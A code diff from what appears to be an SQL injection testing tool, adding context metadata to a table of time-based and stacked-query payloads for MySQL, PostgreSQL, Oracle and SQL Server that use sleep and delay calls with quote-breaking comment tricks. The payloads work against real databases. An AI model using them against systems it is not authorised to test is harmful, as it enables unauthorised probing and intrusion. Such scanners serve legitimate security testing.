@@ -92,34 +92,53 @@ export const SPLICES: readonly Splice[] = [
 export interface Waiting {
   readonly dbms: string
   readonly technique: 'time' | 'stacked'
+  /** What the value has to look like, any of it. */
+  readonly fits: readonly Boundary['fits'][]
   readonly with: (v: string, seconds: string) => string
 }
 
+const ANY = ['text', 'number'] as const
+/** Where a condition or an expression within the statement would not parse: a limit, a name. */
+const BARE = ['number', 'name'] as const
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
-/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
-const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
+/**
+ * Behind a number the comment hides the first of the two, behind text the line comment hides the second. A bare name keeps
+ * its own: it may be that of a table.
+ */
+const followed = (v: string, statement: string): string =>
+  isName(v) ? `${v};${statement}-- -` : `${number(v)}/*';${statement}-- */;${statement}-- -`
+export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
 const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
 
 export const WAITING: readonly Waiting[] = [
   {
     dbms: 'MySQL',
     technique: 'time',
+    fits: ANY,
     with: (v, s) => `${v || '1'} Xor${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
   },
   {
     dbms: 'PostgreSQL',
     technique: 'time',
+    fits: ANY,
     with: (v, s) => `${number(v)}-(Select 0 From pg_sleep(${s}))/*'||(Select '' From pg_sleep(${s}))||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'time', with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
+  { dbms: 'PostgreSQL', technique: 'time', fits: ['order'], with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
   {
     dbms: 'Oracle',
     technique: 'time',
+    fits: ANY,
     with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'stacked', with: (v, s) => followed(v, `Select pg_sleep(${s})`) },
-  { dbms: 'MySQL', technique: 'stacked', with: (v, s) => followed(v, `Select Sleep(${s})`) },
-  { dbms: 'Microsoft SQL Server', technique: 'stacked', with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`) },
+  { dbms: 'PostgreSQL', technique: 'stacked', fits: BARE, with: (v, s) => followed(v, `Select pg_sleep(${s})`) },
+  { dbms: 'MySQL', technique: 'stacked', fits: BARE, with: (v, s) => followed(v, `Select Sleep(${s})`) },
+  {
+    dbms: 'Microsoft SQL Server',
+    technique: 'stacked',
+    fits: ANY,
+    // Names, too, are tried as what stands in quotes: there is no other way of waiting here.
+    with: (v, s) => followed(isName(v) ? '' : v, `Waitfor Delay '0:0:${s}'`),
+  },
 ]
 
 /** Text that no statement survives, in one go for every kind of quotes, and its harmless twin. */
